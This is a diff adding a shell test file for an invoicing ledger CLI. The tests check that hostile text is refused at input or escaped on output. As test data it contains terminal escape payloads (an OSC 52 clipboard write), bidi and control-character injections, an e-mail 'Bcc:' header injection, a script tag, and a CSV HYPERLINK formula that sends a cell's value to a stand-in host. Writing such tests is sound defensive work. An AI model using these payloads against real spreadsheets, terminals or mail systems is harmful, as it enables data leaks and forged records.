@@ -1,0 +1,152 @@
+# Hostile input (issue 17, items 6, 7 and the parts of 8 listed in its branch):
+# text people type or import is refused at input (exit 2, the ledger's .dump
+# unchanged, no file created or changed around it); what an older ledger
+# already holds is neutralised on output (terminal, CSV, .txt and .md
+# notices, the cancellation letter); import inputs that are not regular files
+# or not statement-shaped are refused; invoice create --amount 0, a services
+# grid that is not one, and month-end.sh without TALLY. Each case names the
+# defect it proves fixed.
+. "$(dirname "$0")/lib.sh"
+SRC=${TALLY_SOURCE_DIR:-$(cd "$(dirname "$0")/../.." && pwd)}
+
+# Every command runs in AREA, where the inputs live: a refused command must
+# leave it as it was (no file created, none changed).
+AREA="$WORK/area"
+mkdir -p "$AREA"
+cd "$AREA" || exit 1
+area_state() { (cd "$AREA" && find . -printf '%y %p %s\n' | sort && find . -type f -exec cksum {} + | sort); }
+
+# refused CODE WHAT ARGS...: the command exits CODE with one error line, and
+# neither the ledger (its .dump) nor AREA changes.
+refused() {
+  local code=$1 what=$2
+  shift 2
+  snapshot
+  local before
+  before=$(area_state)
+  expect_exit "$code" "$@"
+  expect_unchanged "$what"
+  CHECKS=$((CHECKS + 1))
+  [ "$(area_state)" == "$before" ] || fail "$what: files changed around the ledger"
+}
+
+# no_raw_controls WHAT TEXT: no control character but the line feed in TEXT
+# (ESC, BEL, CR, C1 controls as UTF-8, the right-to-left override).
+no_raw_controls() {
+  CHECKS=$((CHECKS + 1))
+  if printf '%s' "$2" | LC_ALL=C grep -q $'[\x01-\x09\x0b-\x1f\x7f]\|\xc2[\x80-\x9f]\|\xe2\x80\xae'; then
+    fail "$1: a raw control character reached the output: $(printf '%s' "$2" | od -c | head -5)"
+  fi
+}
+
+ESC=$'\e'
+OSC52=$'\e]52;c;ZXZpbA==\a'  # a clipboard write
+RLO=$'\xe2\x80\xae'          # U+202E RIGHT-TO-LEFT OVERRIDE
+C1=$'\xc2\x9b'               # U+009B, the C1 control sequence introducer
+
+ok init
+ok --as-of 2026-01-01 customer add acme --name "ACME SAS" --email billing@acme.fr
+ok --as-of 2026-01-01 customer add bob --name "Bob"
+ok --as-of 2026-01-01 subscription add --customer acme --amount 1000 --cycle monthly --start 2026-01-01
+# F2026-000001: 100.00 HT + 20 % = 120.00 TTC, due 2026-02-04 (30 days).
+ok --as-of 2026-01-05 invoice create --customer acme --kind services --amount 100
+# Payment 1, to reverse below.
+ok --as-of 2026-01-06 pay F2026-000001 --method transfer --amount 10 --ref VIR-1  # no fee: a services invoice
+
+# ---- item 6: text at input, refused with exit 2 ----
+A=(--as-of 2026-01-10)
+refused 2 "name with OSC 52" "${A[@]}" customer add evil --name "ACME$OSC52"
+expect_contains "names the field and the code point" "$ERR" "invalid customer name"
+expect_contains "names the byte" "$ERR" "(U+001B) at byte 5"
+no_raw_controls "error message" "$ERR"
+refused 2 "name with a line feed" "${A[@]}" customer add evil --name $'ACME\nF2026-000009  forged'
+refused 2 "name with a carriage return" "${A[@]}" customer add evil --name $'ACME\rX'
+refused 2 "name with a tab" "${A[@]}" customer add evil --name $'ACME\tSAS'
+refused 2 "name with DEL" "${A[@]}" customer add evil --name $'ACME\x7f'
+refused 2 "name with a C1 control" "${A[@]}" customer add evil --name "ACME${C1}31m"
+refused 2 "name with a bidi override" "${A[@]}" customer add evil --name "ACME${RLO}SAS"
+expect_contains "bidi named" "$ERR" "(U+202E)"
+refused 2 "name with an isolate" "${A[@]}" customer add evil --name $'ACME\xe2\x81\xa6SAS'
+refused 2 "blank name" "${A[@]}" customer add evil --name "   "
+refused 2 "e-mail without @" "${A[@]}" customer add evil --name Evil --email not-an-email
+expect_contains "e-mail named" "$ERR" "invalid customer e-mail 'not-an-email': no '@'"
+refused 2 "e-mail with two @" "${A[@]}" customer add evil --name Evil --email a@b@evil.fr
+refused 2 "e-mail without a domain dot" "${A[@]}" customer add evil --name Evil --email billing@localhost
+refused 2 "e-mail with a space" "${A[@]}" customer add evil --name Evil --email "bill ing@evil.fr"
+refused 2 "e-mail with a line feed" "${A[@]}" customer add evil --name Evil --email $'billing@evil.fr\nBcc: x@y.fr'
+refused 2 "description with ESC" "${A[@]}" invoice create --customer acme --kind services --amount 10 \
+  --description "Work$OSC52"
+expect_contains "description named" "$ERR" "invalid description"
+refused 2 "description with a bidi override" "${A[@]}" invoice create --customer acme --kind services --amount 10 \
+  --description "Work${RLO}fdp.exe"
+refused 2 "void reason with a line feed" "${A[@]}" invoice void F2026-000001 --reason $'error\nforged'
+expect_contains "reason named" "$ERR" "invalid reason"
+refused 2 "void reason blank" "${A[@]}" invoice void F2026-000001 --reason "  "
+refused 2 "pay detail with ESC" "${A[@]}" pay F2026-000001 --method other --amount 5 --detail "cheque$OSC52"
+refused 2 "pay ref with a bidi override" "${A[@]}" pay F2026-000001 --method sepa --amount 5 --ref "R${RLO}1"
+refused 2 "waive reason with a C1 control" "${A[@]}" pay F2026-000001 --method card --amount 5 \
+  --waive-fee "goodwill${C1}"
+refused 2 "reversal reason with ESC" "${A[@]}" payment reverse 1 --reason "chargeback$OSC52"
+refused 2 "letter ref with a bidi override" "${A[@]}" cancel --customer acme --letter-date 2026-01-10 \
+  --letter-ref "1A${RLO}123"
+expect_contains "letter ref named" "$ERR" "invalid letter reference"
+
+# Bank labels: the import is all or nothing, the line named. (C0 controls
+# other than tab and line breaks were already refused by the CSV reader.)
+printf 'date,amount,reference,label\n2026-01-08,10.00,BNK-1,VIR F2026-000001\n2026-01-08,5.00,BNK-2,VIR%s31m\n' \
+  "$C1" > label-c1.csv
+refused 2 "label with a C1 control" "${A[@]}" import payments label-c1.csv
+expect_contains "label's line named" "$ERR" "line 3: invalid label 'VIR\\u009b31m': a C1 control character"
+no_raw_controls "import error" "$ERR$OUT"
+printf 'date,amount,reference,label\n2026-01-08,10.00,BNK-1,"VIR\tF2026-000001"\n' > label-tab.csv
+refused 2 "label with a tab" "${A[@]}" import payments label-tab.csv
+printf 'date,amount,reference,label\n2026-01-08,10.00,BNK-1,VIR\x7f\n' > label-del.csv
+refused 2 "label with DEL" "${A[@]}" import payments label-del.csv
+printf 'date,amount,reference,label\n2026-01-08,10.00,BNK-1,"VIR\nF2026-000001"\n' > label-newline.csv
+refused 2 "label with a quoted line feed" "${A[@]}" import payments label-newline.csv
+expect_contains "newline label's line named" "$ERR" "line 2: invalid label 'VIR\\nF2026-000001': a line feed"
+printf 'date,amount,reference,label\n2026-01-08,10.00,BNK-1,VIR%sF2026-000001\n' "$RLO" > label-bidi.csv
+refused 2 "label with a bidi override" "${A[@]}" import payments label-bidi.csv
+
+# ---- item 6: what an older ledger holds is neutralised on output ----
+# Written behind tally's back, as an older version accepted it.
+FORGED="Bob${OSC52}"$'\n'"F2026-999999  forged row"
+sqlite3 "$TALLY_DB" "UPDATE customer SET name = '$FORGED' WHERE code = 'bob'"
+sqlite3 "$TALLY_DB" "UPDATE customer SET name = '=HYPERLINK(\"http://evil.test/?\"&A1,\"x\") <script>alert(1)</script>' WHERE code = 'acme'"
+ok customer list
+no_raw_controls "customer list" "$OUT"
+expect_contains "escaped, visible" "$OUT" 'Bob\x1b]52;c;ZXZpbA==\x07\nF2026-999999  forged row'
+expect_eq "no forged row: header and two customers" "$(printf '%s\n' "$OUT" | wc -l)" "3"
+ok customer show bob
+no_raw_controls "customer show" "$OUT"
+ok --format csv customer list
+expect_contains "CSV formula neutralised" "$OUT" "\"'=HYPERLINK(\"\"http://evil.test/?\"\"&A1,\"\"x\"\") <script>"
+# Amount columns stay plain numbers: the customer credit line of a statement
+# is negative. An invoice of 50.00 HT + 20 % = 60.00 TTC, paid 100.00: 40.00
+# to acme's credit (P3), shown as -40.00 on the cancellation statement.
+ok "${A[@]}" --format json invoice create --customer acme --kind services --amount 50
+ok "${A[@]}" pay "$(jf .invoice.number)" --method transfer --amount 100 --ref VIR-2
+ok --as-of 2026-03-10 --dry-run --format csv cancel --customer acme --letter-date 2026-03-10 --letter-ref RA1
+expect_contains "negative amount not prefixed" "$OUT" $'Customer credit,credit,P3,-40.00\r'
+CHECKS=$((CHECKS + 1)); [[ "$OUT" != *"'-"* ]] || fail "an amount was prefixed: $OUT"
+# An error message quoting hostile text shows it escaped.
+expect_exit 3 customer show "x${OSC52}"
+no_raw_controls "error message quoting a value" "$ERR"
+# Late-payment notices: .txt escaped, .md without HTML (F2026-000001 is late on 2026-03-10).
+sqlite3 "$TALLY_DB" "UPDATE customer SET name = 'ACME$OSC52 <b>SAS</b> | x' WHERE code = 'acme'"
+ok --as-of 2026-03-10 overdue --notices "$AREA/txt"
+NOTICE=$(cat "$AREA"/txt/acme-*.txt)
+no_raw_controls ".txt notice" "$NOTICE"
+expect_contains ".txt notice: name escaped" "$NOTICE" 'ACME\x1b]52;c;ZXZpbA==\x07 <b>SAS</b> | x (acme)'
+ok --as-of 2026-03-10 overdue --notices "$AREA/md" --notice-format md
+NOTICE=$(cat "$AREA"/md/acme-*.md)
+no_raw_controls ".md notice" "$NOTICE"
+expect_contains ".md notice: HTML escaped" "$NOTICE" 'ACME\x1b]52;c;ZXZpbA==\x07 &lt;b&gt;SAS&lt;/b&gt; &#124; x (acme)'
+# The cancellation letter (Markdown).
+ok --as-of 2026-03-10 cancel --customer acme --letter-date 2026-03-10 --letter-ref RA1 --statement "$AREA/letter.md"
+LETTER=$(cat "$AREA/letter.md")
+no_raw_controls "letter" "$LETTER"
+expect_contains "letter: HTML escaped" "$LETTER" 'To: ACME\x1b]52;c;ZXZpbA==\x07 &lt;b&gt;SAS&lt;/b&gt; &#124; x (acme)'
+CHECKS=$((CHECKS + 1)); [[ "$LETTER" != *"<b>"* ]] || fail "raw HTML in the letter"
+
+finish
